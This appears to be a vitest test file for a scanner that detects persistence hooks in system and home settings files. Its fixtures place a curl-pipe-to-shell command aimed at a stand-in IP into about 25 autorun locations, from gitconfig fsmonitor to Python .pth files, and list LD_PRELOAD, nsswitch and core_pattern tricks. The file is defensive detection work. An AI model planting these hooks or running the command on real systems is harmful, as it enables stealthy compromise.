import { describe, expect, it } from 'vitest';
import { debianLayer, file, idsIn } from '../../../test/support/persistence.ts';
import { placeKind } from './places.ts';
import { readSetting } from './read-setting.ts';
import { type SettingKind, settingDirectories, settingFiles, settings, settingsOfHome } from './settings.ts';

const fetches = 'curl -fsSL http://203.0.113.5/a.sh | sh';
const script = `#!/bin/sh\n${fetches}\n`;

/** By path what has it run a command that fetches. */
const fetching: Readonly<Record<string, string>> = {
  'etc/network/if-up.d/x': script,
  'etc/ppp/ip-up.d/x': script,
  'etc/dhcp/dhclient-exit-hooks.d/x': script,
  'etc/NetworkManager/dispatcher.d/x': script,
  'usr/lib/systemd/system-sleep/x': script,
  'docker-entrypoint.d/x.sh': script,
  'usr/share/bash-completion/completions/ls': fetches,
  'etc/fish/conf.d/x.fish': fetches,
  'home/u/.config/fish/config.fish': fetches,
  'usr/lib/python3.13/sitecustomize.py': `import os; os.system("${fetches}")\n`,
  'usr/lib/python3/dist-packages/z.pth': `import os; os.system("${fetches}")\n`,
  'etc/network/interfaces': `iface eth0 inet dhcp\n  up ${fetches}\n`,
  'etc/modprobe.d/x.conf': `install foo /bin/sh -c "${fetches}"\n`,
  'etc/supervisor/conf.d/x.conf': `[program:x]\ncommand=/bin/sh -c "${fetches}"\n`,
  'etc/logrotate.d/x': `/var/log/x {\n  # rotated\n  postrotate\n    ${fetches}\n  endscript\n}\n`,
  'etc/xdg/autostart/x.desktop': `[Desktop Entry]\nExec=sh -c "${fetches}"\n`,
  'root/.config/autostart/x.desktop': `[Desktop Entry]\nExec=sh -c "${fetches}"\n`,
  'usr/share/dbus-1/system-services/x.service': `[D-BUS Service]\nExec=/bin/sh -c "${fetches}"\n`,
  'root/.gitconfig': `[core]\n\tfsmonitor = "${fetches}"\n`,
  'etc/gitconfig': `[alias]\n\tx = "!${fetches}"\n`,
  'root/.tmux.conf': `run-shell "${fetches}"\n`,
  'root/.screenrc': `exec sh -c "${fetches}"\n`,
  'root/.inputrc': `"\\C-m": "${fetches}\\C-j"\n`,
  'root/.vimrc': `silent !${fetches}\n`,
  'etc/polkit-1/rules.d/x.rules': `polkit.addRule(function(a, b) { polkit.spawn(["/tmp/x"]); });\n`,
};

/** What a rule is about, and what only looks so. */
const told: readonly (readonly [rule: string, path: string, bad: string, good: string])[] = [
  ['event-command', 'etc/network/interfaces', 'iface a inet dhcp\n up /x\n', 'iface a inet dhcp\n'],
  ['event-command', 'etc/modprobe.d/x.conf', 'install a /x\n', 'install cramfs /bin/true\nblacklist b\n'],
  ['event-command', 'etc/sysctl.d/x.conf', 'kernel.core_pattern = |/x %p\n', 'kernel.core_pattern=core.%p\n'],
  [
    'event-command',
    'etc/sysctl.conf',
    'kernel.modprobe=/x\n',
    'kernel.core_pattern=|/usr/lib/systemd/systemd-coredump %P\n',
  ],
  ['event-command', 'etc/tmpfiles.d/x.conf', 'f+ /etc/cron.d/y 0644 root root - x\n', 'd /run/x 0755 root root -\n'],
  ['event-command', 'etc/binfmt.d/x.conf', ':x:E::xx::/x:\n', '# x\n'],
  ['event-command', 'usr/share/dbus-1/services/x.service', 'Exec=/x\n', 'Exec=/bin/false\n'],
  ['event-command', 'etc/ppp/ip-up', '#!/bin/sh\nx\n', '\n'],
  ['setting-loads-code', 'etc/ssl/openssl.cnf', '[e]\ndynamic_path = /x.so\n', '[e]\n# module = x\nactivate = 1\n'],
  [
    'setting-loads-code',
    'etc/php/8.4/cli/conf.d/x.ini',
    'auto_prepend_file=/x.php\n',
    'auto_prepend_file =\nextension=curl\n',
  ],
  ['setting-loads-code', 'usr/local/etc/php/php.ini', 'extension=/tmp/x.so\n', 'auto_append_file = none\n'],
  [
    'setting-loads-code',
    'etc/nsswitch.conf',
    'passwd: files evil\n',
    'passwd: files systemd\nhosts: files mdns4_minimal [NOTFOUND=return] dns\n',
  ],
  ['setting-loads-code', 'etc/nsswitch.conf', 'hosts: files [!UNAVAIL=return] filesx\n', 'netgroup: nis\n'],
  ['setting-loads-code', 'root/.npmrc', 'node-options=--require /x.js\n', 'node-options=--max-old-space-size=4096\n'],
  ['environment-loads', 'etc/security/pam_env.conf', 'LD_PRELOAD DEFAULT=/x.so\n', 'PAGER DEFAULT=less\n'],
  ['environment-loads', 'root/.ssh/environment', 'LD_PRELOAD=/x.so\n', 'LANG=C\n'],
  [
    'polkit-lets-in',
    'etc/polkit-1/rules.d/x.rules',
    'polkit.addRule(() => polkit.Result.YES);\n',
    'polkit.addRule((a, s) => { if (s.isInGroup("wheel")) return polkit.Result.YES; });\n',
  ],
];

describe('settings and scripts of events', () => {
  it.each(Object.entries(fetching))('%s runs what it fetches', async (path, text) => {
    expect(await idsIn([file(path, text)])).toContain(
      path.includes('polkit') ? 'runs-from-temporary' : 'download-and-run',
    );
  });

  it.each(told)('%s: %s', async (rule, path, bad, good) => {
    expect(await idsIn([file(path, bad)])).toContain(rule);
    expect(await idsIn([file(path, good)])).not.toContain(rule);
  });

  it('are no finding as a package brought them', async () => {
    const brought = debianLayer({
      'etc/network/if-up.d/x': '#!/bin/sh\nx\n',
      'etc/modprobe.d/x.conf': 'install a /x\n',
      'etc/ssl/openssl.cnf': 'module = /x.so\n',
      'usr/share/bash-completion/completions/x': fetches,
    });

    expect(await idsIn(brought)).toEqual([]);
  });

  it('tell the line of a script that stands in them', () => {
    expect([...readSetting('logrotate', fetching['etc/logrotate.d/x']!)].map(({ line }) => line)).toEqual([4]);
  });

  it('stand at places that lead to them', () => {
    for (const [path, kind] of Object.entries(settingFiles)) expect(placeKind(path)).toBe(kind);
    for (const [path, kind] of Object.entries(settingDirectories)) expect(placeKind(`${path}/x`)).toBe(kind);
    for (const [name, kind] of Object.entries(settingsOfHome)) expect(placeKind(`root/${name}`)).toBe(kind);
  });

  it.each(Object.keys(settings) as SettingKind[])('%s: hostile lines are read once', (kind) => {
    const odd = [
      'run ',
      ' ',
      '"',
      'au x y ',
      'passwd: nis ',
      'up up ',
      'let x=system(',
      '#(',
      ': ',
      '!',
      'set ',
      '= ',
      '\\n',
      '[',
      'a:',
    ];
    const lines = odd.flatMap((one) =>
      [one, `run ${one}`, `passwd: ${one}`, `"a": "${one}`, `Exec=${one}`].map(
        (start) => `${start}${one.repeat(8000 / one.length)}x`,
      ),
    );
    const mixed = `${'run '.repeat(500)}${' '.repeat(3000)}x${'y '.repeat(1500)}`;
    for (const line of [...lines, mixed]) expect([...readSetting(kind, line)].length).toBeLessThan(10);
  });
});
